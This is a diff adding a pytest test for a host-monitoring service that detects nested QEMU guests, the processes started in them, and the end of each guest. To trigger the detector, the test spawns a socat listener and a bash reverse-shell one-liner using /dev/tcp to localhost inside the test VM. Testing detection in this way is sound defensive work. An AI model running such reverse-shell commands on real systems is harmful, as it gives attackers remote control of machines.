@@ -129,3 +129,90 @@ def test_service_alerts_inside_and_sees_it_go_and_come(nested, tmp_path):
     finally:
         svc.stop(check_alerts=False)
 
+
+
+def named(m, name, activity=None):
+    return (m["workload_information"]["unique_identifier"] == name and
+            (activity is None or m["activity_data"]["name"] == activity))
+
+
+def gone_told(m, name):
+    return (named(m, name, "Details Gathering Failed") and
+            "is gone" in m["activity_data"]["system_activity_details"]["description"])
+
+
+def test_service_finds_the_inner_vms_by_itself(nested, tmp_path):
+    """Only the outer guest configured, no guest: source: auto_scan (on by
+    default) makes each VM the outer machine runs a system of its own,
+    OUTER/NAME, read as guest:PID@OUTER's source; lets it go when its QEMU
+    ends, and finds one started later."""
+    outer, inner = nested
+    me = f"{outer.name}/inner1"
+    t0 = time.monotonic()
+    svc = Service(tmp_path, outer, sleep=SLEEP)
+    try:
+        assert svc.wait_for(lambda m: named(m, me, "Host Initialization Successful"),
+                            timeout=60), f"{me} was never initialized; see {svc.dir}"
+        print(f"{me} initialized {time.monotonic() - t0:.1f} s after the service started")
+        started = [m for m in svc.messages if named(m, me, "Host Initialization Started")]
+        desc = started[0]["activity_data"]["system_activity_details"]["description"]
+        assert f"guest:{inner.pid}@{outer.source}" in desc, desc
+        assert f"found VM {me} (pid {inner.pid} in {outer.name})" in svc.stdout()
+
+        # monitored: a process born inside, and a reverse shell (one alert)
+        time.sleep(2 * svc.sleep_s)
+        since = svc.mark()
+        pid = inner.spawn("exec sleep 33")
+        assert svc.wait_for(lambda m: named(m, me, "Process Created") and
+                            m["activity_data"]["process_details"]["process_id"] == pid,
+                            timeout=15), "a process born in the inner guest was not seen"
+        inner.spawn("sleep 1000 | socat TCP-LISTEN:4461,reuseaddr -")
+        time.sleep(1)
+        inner.spawn("bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/4461 0>&1'")
+        assert svc.wait_for(lambda m: named(m, me, "Reverse Shell Detected"), timeout=20), \
+            "the reverse shell in the inner guest was not alerted"
+        time.sleep(2 * svc.sleep_s + 0.2)
+        svc.poll()
+        alerts = [m["activity_data"]["name"] for m in svc.messages[since:]
+                  if m["message_type"] == "ALERT" and named(m, me) and
+                  m["activity_data"]["name"] not in Service.ROUTINE_ALERTS]
+        assert alerts == ["Reverse Shell Detected"], alerts
+
+        # its QEMU killed: told once, then nothing more of it
+        vmm = inner.pid
+        t1 = time.monotonic()
+        inner.stop()
+        assert svc.wait_for(lambda m: gone_told(m, me), timeout=20), \
+            "the inner guest's end was not told"
+        print(f"its end told {time.monotonic() - t1:.1f} s after its QEMU was killed")
+        time.sleep(3)
+        svc.poll()
+        n = sum(named(m, me) for m in svc.messages)
+        time.sleep(5)
+        svc.poll()
+        assert sum(named(m, me) for m in svc.messages) == n, "activity after the VM stopped"
+        assert sum(gone_told(m, me) for m in svc.messages) == 1
+        # the end told, and nothing after it (no retried host initialization)
+        told = next(i for i, m in enumerate(svc.messages) if gone_told(m, me))
+        after = [m["activity_data"]["name"] for m in svc.messages[told + 1:] if named(m, me)]
+        assert not after, f"after its end was told: {after}"
+        assert f"VM {me} (pid {vmm} in {outer.name}) stopped: no longer monitored" \
+            in svc.stdout(), svc.stdout()[-2000:]
+
+        # a second inner guest (a new QEMU of the same name), started later: found too
+        t2 = time.monotonic()
+        inner.start(timeout=120)
+        assert svc.wait_for(lambda m: named(m, me, "Host Initialization Successful"),
+                            timeout=60, count=2)[1:], f"the second {me} was never initialized"
+        print(f"the second {me} initialized {time.monotonic() - t2:.1f} s after its QEMU was "
+              f"started ({inner.boot_seconds:.1f} s until it answered)")
+        started = [m for m in svc.messages if named(m, me, "Host Initialization Started")]
+        desc = started[-1]["activity_data"]["system_activity_details"]["description"]
+        assert f"guest:{inner.pid}@{outer.source}" in desc and inner.pid != vmm, desc
+        time.sleep(2 * svc.sleep_s)
+        pid = inner.spawn("exec sleep 34")
+        assert svc.wait_for(lambda m: named(m, me, "Process Created") and
+                            m["activity_data"]["process_details"]["process_id"] == pid,
+                            timeout=15), "a process born in the second inner guest was not seen"
+    finally:
+        svc.stop(check_alerts=False)
